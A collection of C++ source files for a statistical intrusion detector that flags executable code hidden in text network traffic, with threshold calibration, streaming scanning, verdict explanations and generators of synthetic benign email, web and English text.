  /// PMF table for x = 0.. until the tail mass drops below tail_epsilon.
  [[nodiscard]] std::vector<double> pmf_table(double tail_epsilon = 1e-9) const;

  /// Exact longest-run law (no run-independence approximation), via the
  /// dynamic program in mel::stats. Lets callers measure the model error.
  [[nodiscard]] double cdf_exact_dp(std::int64_t x) const;
  [[nodiscard]] double pmf_exact_dp(std::int64_t x) const;

 private:
  std::int64_t n_;
  double p_;
};

}  // namespace mel::core
