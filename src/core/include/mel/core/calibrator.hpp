#pragma once
// Deployment calibration: turn a sample of trusted benign traffic into a
// ready-to-run DetectorConfig plus a report of the margins involved.
//
// This packages the paper's Section 5.2 workflow — measure the channel's
// character frequency table, derive n and p, pick tau from the
// false-positive budget — and adds the empirical cross-checks an operator
// wants before switching enforcement on: the observed benign MEL
// distribution, the implied empirical FP rate at the chosen threshold,
// and the Figure 2 sensitivity gap against a worm-floor MEL.

#include <string>
#include <vector>

#include "mel/core/calibration.hpp"
#include "mel/core/detector.hpp"
#include "mel/stats/histogram.hpp"

namespace mel::core {

struct CalibratorOptions {
  /// Target false-positive budget for the calibrated detector.
  double alpha = 0.01;
  /// Validity rules the deployed detector will use.
  exec::ValidityRules rules = exec::ValidityRules::dawn();
  /// Assumed worm-floor MEL for the sensitivity-gap report (the paper's
  /// empirical floor is 120; the smallest structurally possible decrypter
  /// for a useful payload lands well above 100).
  double worm_floor_mel = 120.0;
};

struct CalibrationReport {
  /// Ready-to-use configuration (preset frequencies installed).
  DetectorConfig config;

  /// The estimation pipeline on the measured distribution, evaluated at
  /// the median sample size.
  EstimatedParameters params;
  double tau = 0.0;

  /// Observed benign MEL statistics under the chosen rules.
  stats::IntHistogram benign_mels;
  /// Samples whose MEL already exceeds tau (would-be false positives).
  std::size_t benign_over_threshold = 0;
  /// benign_over_threshold / samples.
  double empirical_fp_rate = 0.0;

  /// Figure 2 margin analysis.
  SensitivityGap gap;

  /// True when the calibration is trustworthy: enough samples, a sane
  /// empirical FP rate (<= 3x alpha), and a positive sensitivity gap.
  bool healthy = false;
  std::vector<std::string> warnings;
};

/// Calibrates from benign samples (each one payload as the detector will
/// see it). Precondition: samples non-empty; all samples non-empty.
[[nodiscard]] CalibrationReport calibrate_from_benign(
    const std::vector<util::ByteBuffer>& samples,
    const CalibratorOptions& options = {});

/// A recalibration derived from an already-measured character frequency
/// distribution (the online drift pipeline's input: the DriftMonitor has
/// the live frequencies, not the raw payloads).
struct RecalibrationResult {
  DetectorConfig config;       ///< Ready-to-run, preset installed.
  EstimatedParameters params;  ///< n, p at the anchor size.
  double tau = 0.0;            ///< Threshold at the anchor size.
};

/// Re-derives a detector configuration and tau from a frequency table
/// measured on live traffic, anchored at `input_chars` (the calibration
/// point size; the detector still re-derives tau per payload at scan
/// time). Typed errors: kInvalidArgument for a malformed table (via
/// validate_estimation_input), kInvalidConfig when the estimate is
/// degenerate (n < 1 or p outside (0,1)) — a caller must keep its
/// previous calibration rather than install a thresholdless config.
[[nodiscard]] util::StatusOr<RecalibrationResult> recalibrate_from_frequencies(
    const CharFrequencyTable& frequencies, std::size_t input_chars,
    const CalibratorOptions& options = {});

/// Renders the report for logs/terminals.
[[nodiscard]] std::string format_calibration_report(
    const CalibrationReport& report);

}  // namespace mel::core
