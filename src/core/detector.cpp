#include "mel/core/detector.hpp"

#include <cassert>
#include <cmath>

#include "mel/traffic/english_model.hpp"
#include "mel/util/fault_injection.hpp"
#include "mel/util/logging.hpp"

namespace mel::core {

namespace {

/// Clamp bound for out-of-domain alpha: deep enough in (0,1) that the
/// threshold math stays finite.
constexpr double kAlphaEpsilon = 1e-9;

CharFrequencyTable measure_frequencies(util::ByteView payload) {
  CharFrequencyTable table{};
  if (payload.empty()) return table;
  for (std::uint8_t b : payload) table[b] += 1.0;
  for (double& value : table) value /= static_cast<double>(payload.size());
  return table;
}

}  // namespace

util::Status DetectorConfig::validate() const {
  if (!(alpha > 0.0 && alpha < 1.0)) {  // !(..) also catches NaN.
    return util::Status::invalid_config(
        "DetectorConfig::alpha must lie in (0,1); got " +
        std::to_string(alpha));
  }
  if (fixed_threshold && !(*fixed_threshold >= 0.0)) {
    return util::Status::invalid_config(
        "DetectorConfig::fixed_threshold must be >= 0; got " +
        std::to_string(*fixed_threshold));
  }
  if (preset_frequencies) {
    for (double value : *preset_frequencies) {
      if (!(value >= 0.0) || !std::isfinite(value)) {
        return util::Status::invalid_config(
            "DetectorConfig::preset_frequencies entries must be finite "
            "and non-negative");
      }
    }
  }
  return util::Status::ok();
}

MelDetector::MelDetector(DetectorConfig config) : config_(std::move(config)) {
  // Out-of-domain alpha used to be a debug-only assert; in release it fed
  // NaN into the threshold derivation. Clamp to the nearest valid value
  // so a misconfigured gateway fails alarm-happy (alpha high) or
  // alarm-shy (alpha low) but never with NaN verdicts.
  if (!(config_.alpha > 0.0 && config_.alpha < 1.0)) {
    const double clamped = std::isnan(config_.alpha) || config_.alpha <= 0.0
                               ? kAlphaEpsilon
                               : 1.0 - kAlphaEpsilon;
    util::log_warn_ctx({.component = "detector"}, "alpha ", config_.alpha,
                       " outside (0,1); clamped to ", clamped);
    config_.alpha = clamped;
  }
  assert(config_.alpha > 0.0 && config_.alpha < 1.0);
  if (!config_.preset_frequencies && !config_.measure_input) {
    // Secure default: the built-in benign web-text profile. Deriving the
    // threshold from the scanned payload itself would hand the attacker
    // control over the threshold (see DetectorConfig::measure_input).
    config_.preset_frequencies = traffic::web_text_distribution();
  }
}

util::StatusOr<MelDetector> MelDetector::create(DetectorConfig config) {
  if (util::Status status = config.validate(); !status.is_ok()) {
    return status;
  }
  return MelDetector(std::move(config));
}

double MelDetector::derive_threshold(const CharFrequencyTable& frequencies,
                                     std::size_t input_chars) const {
  if (config_.fixed_threshold) return *config_.fixed_threshold;
  const EstimatedParameters params =
      estimate_parameters(frequencies, input_chars, config_.estimation);
  // llround of a non-finite or >2^63 double is UB; route such estimates
  // (hostile frequency tables, absurd C) to the degenerate path instead.
  if (!std::isfinite(params.n) ||
      params.n >= 9.2e18 /* ~2^63, below the llround UB bound */) {
    return static_cast<double>(input_chars);
  }
  const auto n = static_cast<std::int64_t>(std::llround(params.n));
  if (n < 1 || params.p <= 0.0 || params.p >= 1.0) {
    // Degenerate input (empty, or a frequency table with no invalidating
    // mass): no statistical basis for a threshold; be conservative.
    return static_cast<double>(input_chars);
  }
  return MelModel(n, params.p).threshold_for_alpha(config_.alpha);
}

Verdict MelDetector::scan(util::ByteView payload) const {
  return scan(payload, ScanBudget{});
}

Verdict MelDetector::scan(util::ByteView payload,
                          const ScanBudget& budget) const {
  exec::MelScratch scratch;
  return scan(payload, budget, scratch);
}

Verdict MelDetector::scan(util::ByteView payload, const ScanBudget& budget,
                          exec::MelScratch& scratch) const {
  return scan(payload, budget, scratch, nullptr);
}

Verdict MelDetector::scan(util::ByteView payload, const ScanBudget& budget,
                          exec::MelScratch& scratch,
                          obs::ScanTrace* trace) const {
  return scan(payload, budget, scratch, trace, ScanWindow{});
}

Verdict MelDetector::scan(util::ByteView payload, const ScanBudget& budget,
                          exec::MelScratch& scratch, obs::ScanTrace* trace,
                          const ScanWindow& window) const {
  Verdict verdict;
  verdict.alpha = config_.alpha;
  verdict.is_text = util::is_text_buffer(payload);
  if (payload.empty()) return verdict;

  CharFrequencyTable frequencies{};
  {
    const obs::ScanTrace::Span span(trace, obs::Stage::kEstimate);
    frequencies = config_.measure_input || !config_.preset_frequencies
                      ? measure_frequencies(payload)
                      : *config_.preset_frequencies;
    verdict.params =
        estimate_parameters(frequencies, payload.size(), config_.estimation);
    verdict.threshold = derive_threshold(frequencies, payload.size());
  }

  exec::MelOptions options;
  options.rules = config_.rules;
  options.engine = config_.engine;
  if (config_.early_exit) {
    options.early_exit_threshold =
        static_cast<std::int64_t>(std::floor(verdict.threshold));
  }
  options.decode_budget = budget.decode_budget;
  if (budget.deadline.count() > 0) {
    options.deadline = util::fault::now() + budget.deadline;
  }
  options.cache_stream_offset = window.stream_offset;
  options.cache_reuse = window.reuse_cache;
  {
    const obs::ScanTrace::Span span(trace, obs::Stage::kDecode);
    verdict.mel_detail = exec::compute_mel(payload, options, scratch);
  }
  verdict.mel = verdict.mel_detail.mel;
  verdict.loop_detected = verdict.mel_detail.loop_detected;

  // Decision rule: MEL beyond tau, or an executable loop (which makes the
  // error-free execution length unbounded).
  {
    const obs::ScanTrace::Span span(trace, obs::Stage::kDetect);
    verdict.malicious = static_cast<double>(verdict.mel) > verdict.threshold ||
                        verdict.loop_detected;
  }
  return verdict;
}

}  // namespace mel::core
