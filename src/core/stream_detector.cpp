#include "mel/core/stream_detector.hpp"

#include <cassert>
#include <limits>
#include <new>
#include <string>

#include "mel/util/fault_injection.hpp"
#include "mel/util/logging.hpp"

namespace mel::core {

util::Status StreamConfig::validate() const {
  if (window_size == 0) {
    return util::Status::invalid_config(
        "StreamConfig::window_size must be > 0");
  }
  if (overlap >= window_size) {
    return util::Status::invalid_config(
        "StreamConfig::overlap (" + std::to_string(overlap) +
        ") must be < window_size (" + std::to_string(window_size) +
        "); equal values would make the window slide by zero bytes");
  }
  if (max_buffered_bytes != 0 && max_buffered_bytes < window_size) {
    return util::Status::invalid_config(
        "StreamConfig::max_buffered_bytes (" +
        std::to_string(max_buffered_bytes) +
        ") must be >= window_size; no window could ever complete");
  }
  return detector.validate();
}

StreamDetector::StreamDetector(StreamConfig config)
    : config_(std::move(config)), detector_(config_.detector) {
  // These were debug-only asserts; in release, overlap >= window_size
  // made drain()'s slide step zero and the loop spin forever on the
  // first full window. Sanitize so the plain constructor is always safe.
  if (config_.window_size == 0) {
    util::log_warn_ctx({.component = "stream"},
                       "window_size 0 is invalid; using default 4096");
    config_.window_size = 4096;
  }
  if (config_.overlap >= config_.window_size) {
    util::log_warn_ctx({.component = "stream"}, "overlap ", config_.overlap,
                       " >= window_size ", config_.window_size,
                       "; clamped to ", config_.window_size - 1);
    config_.overlap = config_.window_size - 1;
  }
  if (config_.max_buffered_bytes != 0 &&
      config_.max_buffered_bytes < config_.window_size) {
    util::log_warn_ctx({.component = "stream"}, "max_buffered_bytes ",
                       config_.max_buffered_bytes,
                       " < window_size; raised to one window");
    config_.max_buffered_bytes = config_.window_size;
  }
  assert(config_.window_size > 0);
  assert(config_.overlap < config_.window_size);
}

util::StatusOr<StreamDetector> StreamDetector::create(StreamConfig config) {
  if (util::Status status = config.validate(); !status.is_ok()) {
    return status;
  }
  return StreamDetector(std::move(config));
}

void StreamDetector::bind_metrics(obs::MetricsRegistry& registry,
                                  const std::string& prefix) {
  buffer_gauge_ = registry.gauge(
      prefix + "_buffer_bytes", "Bytes currently buffered awaiting a window.");
  high_water_gauge_ = registry.gauge(
      prefix + "_buffer_high_water_bytes",
      "Largest buffer occupancy observed (bytes).");
  windows_counter_ = registry.counter(prefix + "_windows_scanned_total",
                                      "Windows scanned.");
  windows_degraded_counter_ = registry.counter(
      prefix + "_windows_degraded_total",
      "Windows cut short by the per-window budget/deadline.");
  alerts_counter_ =
      registry.counter(prefix + "_alerts_total", "Windows flagged malicious.");
  feeds_rejected_counter_ = registry.counter(
      prefix + "_feeds_rejected_total",
      "Batches refused by try_feed (buffer cap or allocation failure).");
  // Re-publish state accumulated before binding, so late binding does not
  // under-report the high-water mark.
  high_water_gauge_.update_max(static_cast<std::int64_t>(buffer_high_water_));
  buffer_gauge_.set(static_cast<std::int64_t>(buffer_.size()));
}

void StreamDetector::note_buffer_level() noexcept {
  if (buffer_.size() > buffer_high_water_) buffer_high_water_ = buffer_.size();
  buffer_gauge_.set(static_cast<std::int64_t>(buffer_.size()));
  high_water_gauge_.update_max(static_cast<std::int64_t>(buffer_high_water_));
}

std::vector<StreamAlert> StreamDetector::feed(util::ByteView bytes) {
  std::vector<StreamAlert> alerts;
  // Buffer at most one window's worth before draining, so a huge batch
  // does not balloon buffer_ to the batch size before any scanning.
  std::size_t offset = 0;
  do {
    const std::size_t chunk =
        std::min(bytes.size() - offset, config_.window_size);
    buffer_.insert(buffer_.end(), bytes.begin() + offset,
                   bytes.begin() + offset + chunk);
    consumed_ += chunk;
    offset += chunk;
    note_buffer_level();
    std::vector<StreamAlert> batch = drain(/*flush=*/false);
    if (alerts.empty()) {
      alerts = std::move(batch);
    } else {
      alerts.insert(alerts.end(), std::make_move_iterator(batch.begin()),
                    std::make_move_iterator(batch.end()));
    }
  } while (offset < bytes.size());
  return alerts;
}

util::StatusOr<std::vector<StreamAlert>> StreamDetector::try_feed(
    util::ByteView bytes) {
  if (util::fault::should_fire(util::fault::Point::kAllocFailure)) {
    ++feeds_rejected_;
    feeds_rejected_counter_.inc();
    return util::Status::resource_exhausted(
        "injected allocation failure in stream buffer");
  }
  // Overflow-safe accounting: `buffer_.size() + bytes.size()` can wrap
  // std::size_t on a crafted span, turning the cap compare into a no-op.
  // Compare by subtraction, and refuse a batch that would wrap the u64
  // consumed counter with a typed error instead of silently wrapping.
  if (bytes.size() >
      std::numeric_limits<std::size_t>::max() - buffer_.size()) {
    ++feeds_rejected_;
    feeds_rejected_counter_.inc();
    return util::Status::invalid_argument(
        "feed of " + std::to_string(bytes.size()) +
        " bytes would overflow the stream buffer's byte accounting");
  }
  if (bytes.size() > std::numeric_limits<std::uint64_t>::max() - consumed_) {
    ++feeds_rejected_;
    feeds_rejected_counter_.inc();
    return util::Status::invalid_argument(
        "feed would overflow the stream's consumed-byte counter");
  }
  if (config_.max_buffered_bytes != 0 &&
      buffer_.size() + bytes.size() > config_.max_buffered_bytes) {
    ++feeds_rejected_;
    feeds_rejected_counter_.inc();
    return util::Status::resource_exhausted(
        "stream buffer cap: " + std::to_string(buffer_.size()) +
        " pending + " + std::to_string(bytes.size()) + " incoming > cap " +
        std::to_string(config_.max_buffered_bytes) +
        "; feed smaller batches");
  }
  try {
    return feed(bytes);
  } catch (const std::bad_alloc&) {
    ++feeds_rejected_;
    feeds_rejected_counter_.inc();
    return util::Status::resource_exhausted(
        "allocation failed while buffering stream bytes");
  }
}

std::vector<StreamAlert> StreamDetector::finish() {
  return drain(/*flush=*/true);
}

std::vector<StreamAlert> StreamDetector::drain(bool flush) {
  std::vector<StreamAlert> alerts;
  const std::size_t step = config_.window_size - config_.overlap;
  while (buffer_.size() >= config_.window_size ||
         (flush && !buffer_.empty())) {
    const std::size_t length =
        std::min(buffer_.size(), config_.window_size);
    Verdict verdict = detector_.scan(
        util::ByteView(buffer_.data(), length), config_.budget, scratch_,
        /*trace=*/nullptr,
        ScanWindow{.stream_offset = buffer_stream_offset_,
                   .reuse_cache = true});
    bytes_scanned_ += length;
    ++windows_scanned_;
    windows_counter_.inc();
    if (verdict.mel_detail.truncated_by_limits()) {
      // The window's mel is a lower bound; any verdict built from it has
      // reduced fidelity. Count it and tag alerts so a degraded verdict
      // can never leak unflagged.
      ++windows_degraded_;
      windows_degraded_counter_.inc();
      verdict.degraded = true;
    }
    if (verdict.malicious) {
      alerts_counter_.inc();
      StreamAlert alert;
      alert.stream_offset = buffer_stream_offset_;
      alert.verdict = verdict;
      if (config_.keep_window_bytes) {
        alert.window.assign(buffer_.begin(),
                            buffer_.begin() + static_cast<std::ptrdiff_t>(length));
      }
      alerts.push_back(std::move(alert));
    }
    if (length < config_.window_size) {
      // Flushed tail: everything scanned, stream done.
      buffer_stream_offset_ += buffer_.size();
      buffer_.clear();
      break;
    }
    // Slide the window, keeping `overlap` bytes for boundary coverage.
    buffer_.erase(buffer_.begin(),
                  buffer_.begin() + static_cast<std::ptrdiff_t>(step));
    buffer_stream_offset_ += step;
  }
  buffer_gauge_.set(static_cast<std::int64_t>(buffer_.size()));
  return alerts;
}

}  // namespace mel::core
