#include "mel/core/stream_detector.hpp"

#include <cassert>

namespace mel::core {

StreamDetector::StreamDetector(StreamConfig config)
    : config_(std::move(config)), detector_(config_.detector) {
  assert(config_.window_size > 0);
  assert(config_.overlap < config_.window_size);
}

std::vector<StreamAlert> StreamDetector::feed(util::ByteView bytes) {
  buffer_.insert(buffer_.end(), bytes.begin(), bytes.end());
  consumed_ += bytes.size();
  return drain(/*flush=*/false);
}

std::vector<StreamAlert> StreamDetector::finish() {
  return drain(/*flush=*/true);
}

std::vector<StreamAlert> StreamDetector::drain(bool flush) {
  std::vector<StreamAlert> alerts;
  const std::size_t step = config_.window_size - config_.overlap;
  while (buffer_.size() >= config_.window_size ||
         (flush && !buffer_.empty())) {
    const std::size_t length =
        std::min(buffer_.size(), config_.window_size);
    const Verdict verdict =
        detector_.scan(util::ByteView(buffer_.data(), length));
    ++windows_scanned_;
    if (verdict.malicious) {
      StreamAlert alert;
      alert.stream_offset = buffer_stream_offset_;
      alert.verdict = verdict;
      if (config_.keep_window_bytes) {
        alert.window.assign(buffer_.begin(),
                            buffer_.begin() + static_cast<std::ptrdiff_t>(length));
      }
      alerts.push_back(std::move(alert));
    }
    if (length < config_.window_size) {
      // Flushed tail: everything scanned, stream done.
      buffer_stream_offset_ += buffer_.size();
      buffer_.clear();
      break;
    }
    // Slide the window, keeping `overlap` bytes for boundary coverage.
    buffer_.erase(buffer_.begin(),
                  buffer_.begin() + static_cast<std::ptrdiff_t>(step));
    buffer_stream_offset_ += step;
  }
  return alerts;
}

}  // namespace mel::core
