#include "mel/core/explain.hpp"

#include <algorithm>
#include <sstream>

#include "mel/disasm/decoder.hpp"
#include "mel/disasm/formatter.hpp"
#include "mel/exec/sweep.hpp"

namespace mel::core {

Explanation explain(const MelDetector& detector, util::ByteView payload,
                    std::size_t max_listing) {
  Explanation explanation;

  // Re-scan with early exit off: the report needs the full run.
  DetectorConfig config = detector.config();
  config.early_exit = false;
  const MelDetector full(config);
  explanation.verdict = full.scan(payload);

  // Walk the run forward from its start offset, mirroring the engine.
  const std::size_t start = explanation.verdict.mel_detail.best_entry_offset;
  explanation.run_start = start;
  std::size_t offset = start;
  std::int64_t executed = 0;
  while (offset < payload.size() &&
         executed < explanation.verdict.mel) {
    const disasm::Instruction insn =
        disasm::decode_instruction(payload, offset);
    if (!exec::is_valid_instruction(insn, config.rules)) break;
    ++executed;
    if (explanation.listing.size() < max_listing) {
      explanation.listing.push_back(
          disasm::format_listing_line(insn, payload));
    } else {
      ++explanation.listing_truncated;
    }
    offset += insn.length;
  }
  explanation.run_end = offset;

  // Whole-payload invalidity census under the same rules.
  const exec::SweepAnalysis sweep =
      exec::analyze_sweep(payload, config.rules);
  const std::vector<std::size_t> census = exec::invalidity_census(sweep);
  for (std::size_t i = 0; i < census.size(); ++i) {
    const auto reason = static_cast<exec::InvalidReason>(i);
    if (reason == exec::InvalidReason::kValidInstruction) continue;
    if (census[i] == 0) continue;
    explanation.invalidity_census.emplace_back(
        std::string(exec::invalid_reason_name(reason)), census[i]);
  }
  std::sort(explanation.invalidity_census.begin(),
            explanation.invalidity_census.end(),
            [](const auto& a, const auto& b) { return a.second > b.second; });

  std::ostringstream summary;
  if (explanation.verdict.malicious) {
    summary << "MALICIOUS: a chain of " << explanation.verdict.mel
            << " error-free instructions";
    if (explanation.verdict.loop_detected) {
      summary << " (with an executable loop)";
    }
    summary << " starts at offset " << explanation.run_start
            << " and spans " << (explanation.run_end - explanation.run_start)
            << " bytes; the benign model allows at most "
            << explanation.verdict.threshold << " (alpha="
            << explanation.verdict.alpha << ").";
  } else {
    summary << "benign: longest error-free chain is "
            << explanation.verdict.mel << " instructions, below the "
            << explanation.verdict.threshold << " threshold (alpha="
            << explanation.verdict.alpha << ").";
  }
  explanation.summary = summary.str();
  return explanation;
}

std::string format_explanation(const Explanation& explanation) {
  std::ostringstream out;
  out << explanation.summary << '\n';
  const auto& params = explanation.verdict.params;
  out << "  estimation: n=" << params.n << " p=" << params.p
      << " (p_io=" << params.p_io << ", p_seg=" << params.p_wrong_segment
      << "), E[instr len]=" << params.expected_instruction_length << '\n';
  if (!explanation.listing.empty()) {
    out << "  longest run (offsets " << explanation.run_start << ".."
        << explanation.run_end << "):\n";
    for (const std::string& line : explanation.listing) {
      out << "    " << line << '\n';
    }
    if (explanation.listing_truncated > 0) {
      out << "    ... " << explanation.listing_truncated
          << " more instructions in this run\n";
    }
  }
  if (!explanation.invalidity_census.empty()) {
    out << "  invalidity census (whole payload):\n";
    for (const auto& [reason, count] : explanation.invalidity_census) {
      out << "    " << reason << ": " << count << '\n';
    }
  }
  return out.str();
}

}  // namespace mel::core
