#include "mel/traffic/email_gen.hpp"

#include <array>
#include <sstream>

#include "mel/traffic/http_gen.hpp"

namespace mel::traffic {

namespace {

constexpr std::array<std::string_view, 10> kUsers = {
    "alice", "bob",    "carol", "dave",  "erin",
    "frank", "grace",  "heidi", "ivan",  "judy",
};

constexpr std::array<std::string_view, 6> kDomains = {
    "cise.example.edu", "example.com",   "mail.example.org",
    "lists.example.net", "example.co.uk", "dept.example.edu",
};

constexpr std::array<std::string_view, 8> kSubjectLead = {
    "Re: meeting notes",      "schedule for next week",
    "Re: paper draft",        "question about the homework",
    "lunch on friday?",       "Fwd: seminar announcement",
    "server maintenance",     "Re: budget numbers",
};

template <typename Array>
std::string_view pick(const Array& values, util::Xoshiro256& rng) {
  return values[rng.next_below(values.size())];
}

}  // namespace

EmailGenerator::EmailGenerator() : text_() {}

EmailMessage EmailGenerator::make_email(std::size_t body_size,
                                        util::Xoshiro256& rng) const {
  EmailMessage message;
  std::ostringstream headers;
  const std::string_view from_user = pick(kUsers, rng);
  const std::string_view to_user = pick(kUsers, rng);
  headers << "From: " << from_user << "@" << pick(kDomains, rng) << "\r\n"
          << "To: " << to_user << "@" << pick(kDomains, rng) << "\r\n"
          << "Subject: " << pick(kSubjectLead, rng) << "\r\n"
          << "Date: Mon, 6 Jul 2026 "
          << 8 + rng.next_below(10) << ":" << 10 + rng.next_below(49)
          << ":00 -0500\r\n"
          << "Message-ID: <" << rng() << "." << rng.next_below(100000)
          << "@" << pick(kDomains, rng) << ">\r\n"
          << "MIME-Version: 1.0\r\n"
          << "Content-Type: text/plain; charset=us-ascii\r\n\r\n";
  message.headers = headers.str();

  std::ostringstream body;
  body << "Hi " << to_user << ",\r\n\r\n";
  while (static_cast<std::size_t>(body.tellp()) + 80 < body_size) {
    if (rng.next_bernoulli(0.25)) {
      body << "> " << text_.generate(50 + rng.next_below(60), rng)
           << "\r\n";
    } else {
      body << text_.generate(120 + rng.next_below(200), rng) << "\r\n\r\n";
    }
  }
  body << "\r\nregards,\r\n" << from_user << "\r\n-- \r\n"
       << from_user << "@" << pick(kDomains, rng) << " | office "
       << 100 + rng.next_below(400) << "\r\n";
  message.body = body.str();
  if (message.body.size() > body_size) message.body.resize(body_size);
  message.raw = message.headers + message.body;
  return message;
}

std::vector<util::ByteBuffer> EmailGenerator::make_mail_corpus(
    std::size_t cases, std::size_t case_size, std::uint64_t seed) const {
  util::Xoshiro256 rng(seed);
  std::vector<util::ByteBuffer> corpus;
  corpus.reserve(cases);
  for (std::size_t i = 0; i < cases; ++i) {
    const EmailMessage message = make_email(case_size + 64, rng);
    std::string payload = ascii_filter(strip_headers(message.raw));
    payload.resize(case_size, ' ');
    corpus.push_back(util::to_bytes(payload));
  }
  return corpus;
}

}  // namespace mel::traffic
