#include "mel/traffic/dataset.hpp"

#include <cassert>
#include <sstream>

#include "mel/traffic/http_gen.hpp"

namespace mel::traffic {

std::vector<util::ByteBuffer> make_benign_dataset(
    const BenignDatasetOptions& options) {
  assert(options.cases > 0 && options.case_size > 0);
  util::Xoshiro256 rng(options.seed);
  HttpGenerator http;
  MarkovTextGenerator text;

  const double total_weight =
      options.html_weight + options.prose_weight + options.form_weight;
  assert(total_weight > 0.0);
  const double p_html = options.html_weight / total_weight;
  const double p_prose = options.prose_weight / total_weight;

  std::vector<util::ByteBuffer> corpus;
  corpus.reserve(options.cases);
  for (std::size_t i = 0; i < options.cases; ++i) {
    std::string payload;
    const double kind = rng.next_double();
    if (kind < p_html) {
      const HttpMessage response =
          http.make_response(options.case_size + 64, rng);
      payload = strip_headers(response.raw);
    } else if (kind < p_html + p_prose) {
      payload = text.generate(options.case_size + 64, rng);
    } else {
      // Concatenated form submissions / query strings.
      std::ostringstream out;
      while (static_cast<std::size_t>(out.tellp()) <
             options.case_size + 64) {
        const HttpMessage request = http.make_request(rng);
        out << http.make_url(rng) << '&' << strip_headers(request.raw);
      }
      payload = out.str();
    }
    payload = ascii_filter(payload);
    payload.resize(options.case_size, ' ');
    corpus.push_back(util::to_bytes(payload));
    assert(util::is_text_buffer(corpus.back()));
  }
  return corpus;
}

}  // namespace mel::traffic
