#include "mel/traffic/english_model.hpp"

#include <cassert>
#include <numeric>

namespace mel::traffic {

namespace {

/// Embedded seed corpus for the Markov generator: ordinary web-flavoured
/// English, pure text bytes. The generator only needs representative
/// bigram statistics, not meaningful content.
constexpr std::string_view kSeedCorpus =
    "the department of computer and information science hosts a number of "
    "research groups working on networks distributed systems and security. "
    "students can find the schedule of classes and seminar announcements on "
    "the main page. the library provides online access to journals and "
    "conference proceedings for all enrolled students and faculty members. "
    "please contact the webmaster if any of the links on this page appear "
    "to be broken or out of date. the weather this week is expected to be "
    "partly cloudy with a chance of afternoon showers and a light breeze "
    "from the northeast. our online store offers free shipping on orders "
    "over fifty dollars during the holiday season. enter your email address "
    "to subscribe to the newsletter and receive updates about new products "
    "and special offers. the quick brown fox jumps over the lazy dog while "
    "the five boxing wizards jump quickly. researchers have shown that the "
    "frequency distribution of letters in english text is remarkably stable "
    "across different sources and genres. network traffic collected from a "
    "campus gateway contains requests for pages images style sheets and "
    "scripts as well as form submissions and search queries. the server "
    "returned a page containing the search results for the query entered by "
    "the user. copyright notice all rights reserved terms of use and privacy "
    "policy apply to this site. graduate admissions are open until the end "
    "of january and decisions will be announced in early april. the game "
    "ended with a final score of three to one after extra time was played. "
    "a list of frequently asked questions and their answers is maintained "
    "by the support team and updated every month. the committee meets on "
    "the first tuesday of every month in the main conference room on the "
    "third floor of the engineering building.";

ByteDistributionTable build_web_text_distribution() {
  ByteDistributionTable dist{};
  const auto& letters = english_letter_frequencies();

  // Mixture weights for ASCII-filtered web text. Chosen to mirror the
  // composition of header-stripped HTTP payloads: prose dominates, with
  // markup punctuation, digits and capitalized words mixed in.
  constexpr double kLower = 0.66;
  constexpr double kUpper = 0.04;
  constexpr double kSpace = 0.155;
  constexpr double kDigits = 0.055;
  constexpr double kPunct = 0.09;

  for (int i = 0; i < 26; ++i) {
    dist['a' + i] += kLower * letters[i];
    dist['A' + i] += kUpper * letters[i];
  }
  dist[' '] += kSpace;
  for (int d = 0; d < 10; ++d) dist['0' + d] += kDigits / 10.0;
  // Punctuation weighted toward web-payload characters (markup, URLs,
  // form encodings).
  struct PunctWeight {
    char ch;
    double weight;
  };
  constexpr PunctWeight kPunctTable[] = {
      {'.', 0.14}, {',', 0.10}, {'/', 0.10}, {'<', 0.06}, {'>', 0.06},
      {'=', 0.07}, {'"', 0.07}, {'-', 0.07}, {':', 0.05}, {';', 0.03},
      {'&', 0.05}, {'?', 0.03}, {'\'', 0.03}, {'(', 0.02}, {')', 0.02},
      {'_', 0.03}, {'%', 0.03}, {'+', 0.02}, {'!', 0.01}, {'#', 0.01},
  };
  double punct_total = 0.0;
  for (const auto& [ch, weight] : kPunctTable) punct_total += weight;
  for (const auto& [ch, weight] : kPunctTable) {
    dist[static_cast<unsigned char>(ch)] += kPunct * weight / punct_total;
  }

  // Normalize exactly to 1.
  const double sum = std::accumulate(dist.begin(), dist.end(), 0.0);
  for (double& p : dist) p /= sum;
  return dist;
}

}  // namespace

const std::array<double, 26>& english_letter_frequencies() {
  // Lewand, "Cryptological Mathematics" relative frequencies (percent),
  // the standard table matching the Oxford-corpus ordering cited by the
  // paper. Index 0 = 'a'.
  static const std::array<double, 26> frequencies = [] {
    std::array<double, 26> f = {
        8.167,  // a
        1.492,  // b
        2.782,  // c
        4.253,  // d
        12.702, // e
        2.228,  // f
        2.015,  // g
        6.094,  // h
        6.966,  // i
        0.153,  // j
        0.772,  // k
        4.025,  // l
        2.406,  // m
        6.749,  // n
        7.507,  // o
        1.929,  // p
        0.095,  // q
        5.987,  // r
        6.327,  // s
        9.056,  // t
        2.758,  // u
        0.978,  // v
        2.360,  // w
        0.150,  // x
        1.974,  // y
        0.074,  // z
    };
    const double total = std::accumulate(f.begin(), f.end(), 0.0);
    for (double& v : f) v /= total;
    return f;
  }();
  return frequencies;
}

const ByteDistributionTable& web_text_distribution() {
  static const ByteDistributionTable dist = build_web_text_distribution();
  return dist;
}

ByteDistributionTable measure_distribution(util::ByteView bytes) {
  ByteDistributionTable dist{};
  if (bytes.empty()) return dist;
  for (std::uint8_t b : bytes) dist[b] += 1.0;
  for (double& p : dist) p /= static_cast<double>(bytes.size());
  return dist;
}

ByteDistributionTable measure_distribution(
    const std::vector<util::ByteBuffer>& corpus) {
  ByteDistributionTable dist{};
  std::size_t total = 0;
  for (const util::ByteBuffer& chunk : corpus) {
    for (std::uint8_t b : chunk) dist[b] += 1.0;
    total += chunk.size();
  }
  if (total == 0) return dist;
  for (double& p : dist) p /= static_cast<double>(total);
  return dist;
}

MarkovTextGenerator::MarkovTextGenerator()
    : MarkovTextGenerator(kSeedCorpus) {}

MarkovTextGenerator::MarkovTextGenerator(std::string_view corpus) {
  assert(corpus.size() >= 3);
  const auto context_of = [](char a, char b) {
    return static_cast<std::uint16_t>(
        (static_cast<std::uint8_t>(a) << 8) | static_cast<std::uint8_t>(b));
  };
  std::unordered_map<std::uint16_t, std::unordered_map<char, std::uint32_t>>
      counts;
  std::unordered_map<char, std::uint32_t> unigram_counts;
  for (std::size_t i = 0; i + 2 < corpus.size(); ++i) {
    counts[context_of(corpus[i], corpus[i + 1])][corpus[i + 2]] += 1;
  }
  for (char c : corpus) unigram_counts[c] += 1;

  for (const auto& [context, nexts] : counts) {
    Node node;
